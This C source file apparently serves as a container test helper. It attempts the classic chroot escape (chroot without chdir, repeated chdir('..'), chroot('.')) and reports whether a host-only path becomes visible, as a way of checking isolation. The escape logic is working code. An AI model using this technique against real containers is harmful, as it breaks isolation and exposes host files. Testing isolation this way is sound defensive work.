/*
 * escape.c - try the classic chroot(2) escape and report whether it worked.
 *
 * Usage: escape PATH
 *
 * PATH is an absolute path that exists only OUTSIDE the container (the test
 * passes e.g. the host's absolute path of the container's rootfs).  Run as
 * root inside the container, this program:
 *
 *   1. makes a temporary directory (under /tmp, else the current directory);
 *   2. chroot()s into it WITHOUT chdir()ing into it, so that the current
 *      directory is left outside the new root;
 *   3. chdir("..") 64 times: since the cwd is not below the new root, ".."
 *      is never stopped by it and climbs to the top of the mount namespace;
 *   4. chroot(".") to make that top the new root;
 *   5. checks whether PATH can be seen with access(PATH, F_OK).
 *
 * A container that only chroot()s into its rootfs is escaped this way; one
 * that uses pivot_root(2) in a private mount namespace (and detaches the old
 * root) is not, because there ".." stops at the container's own root.
 *
 * Output (one line on stdout; diagnostics go to stderr) and exit status:
 *   "escaped"                      0  PATH became visible
 *   "contained"                    1  PATH is still invisible
 *   "contained (chroot: <error>)"  1  chroot(2) itself was refused
 *   "error: <message>"             2  misuse or unexpected failure
 *
 * The temporary directory is removed in every case where that is possible
 * (through a descriptor of its parent, which stays valid across the roots).
 *
 * Build: gcc -static -O2 -Wall -Wextra -Werror -std=gnu11 -o test/escape test/escape.c
 */
#define _GNU_SOURCE /* chroot, mkdtemp */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define CLIMBS 64

static int parent_fd = -1;        /* directory holding the temporary dir */
static char tmp_name[PATH_MAX];   /* its name relative to parent_fd */

/* Remove the temporary directory, whatever the current root is now. */
static void cleanup(void)
{
    if (parent_fd >= 0 && tmp_name[0] != '\0') {
        if (unlinkat(parent_fd, tmp_name, AT_REMOVEDIR) != 0 && errno != ENOENT)
            fprintf(stderr, "escape: warning: cannot remove temporary dir %s: %s\n",
                    tmp_name, strerror(errno));
        tmp_name[0] = '\0';
    }
}

static void __attribute__((noreturn)) fail(const char *what)
{
    int err = errno;
    printf("error: %s: %s\n", what, strerror(err));
    fflush(stdout);
    cleanup();
    exit(2);
}

/*
 * Create "<parent>/.escapeXXXXXX", remember an fd of <parent> and the
 * directory's name in it, and return its path (relative or absolute).
 */
static int make_tmpdir(const char *parent, char *path, size_t size)
{
    int n = snprintf(path, size, "%s/.escapeXXXXXX", parent);
    if (n < 0 || (size_t)n >= size) {
        errno = ENAMETOOLONG;
        return -1;
    }
    if (mkdtemp(path) == NULL)
        return -1;
    parent_fd = open(parent, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (parent_fd < 0) {
        int err = errno;
        rmdir(path);
        errno = err;
        return -1;
    }
    snprintf(tmp_name, sizeof(tmp_name), "%s", strrchr(path, '/') + 1);
    return 0;
}

int main(int argc, char **argv)
{
    char dir[PATH_MAX];
    const char *target;
    int i;

    if (argc != 2 || argv[1][0] != '/') {
        fprintf(stderr, "usage: %s /ABSOLUTE/HOST/PATH\n", argc > 0 ? argv[0] : "escape");
        printf("error: usage: escape /ABSOLUTE/HOST/PATH\n");
        return 2;
    }
    target = argv[1];

    /* A path that is already visible proves nothing: refuse it. */
    if (access(target, F_OK) == 0) {
        printf("error: %s is already visible before the escape attempt\n", target);
        return 2;
    }

    if (make_tmpdir("/tmp", dir, sizeof(dir)) != 0 &&
        make_tmpdir(".", dir, sizeof(dir)) != 0)
        fail("mkdtemp in /tmp and in the current directory");
    fprintf(stderr, "escape: temporary root %s\n", dir);

    /* Step 2: new root, but the cwd stays where it is (outside it). */
    if (chroot(dir) != 0) {
        printf("contained (chroot: %s)\n", strerror(errno));
        cleanup();
        return 1;
    }

    /* Step 3: climb as far as the kernel lets us. */
    for (i = 0; i < CLIMBS; i++)
        if (chdir("..") != 0)
            fail("chdir(\"..\")");

    /* Step 4: make wherever we ended up the root. */
    if (chroot(".") != 0) {
        printf("contained (chroot: %s)\n", strerror(errno));
        cleanup();
        return 1;
    }

    /* Step 5: can we see the host-only path now? */
    if (access(target, F_OK) == 0) {
        printf("escaped\n");
        fflush(stdout);
        cleanup();
        return 0;
    }
    if (errno != ENOENT && errno != ENOTDIR && errno != EACCES)
        fprintf(stderr, "escape: access(%s): %s\n", target, strerror(errno));
    printf("contained\n");
    fflush(stdout);
    cleanup();
    return 1;
}
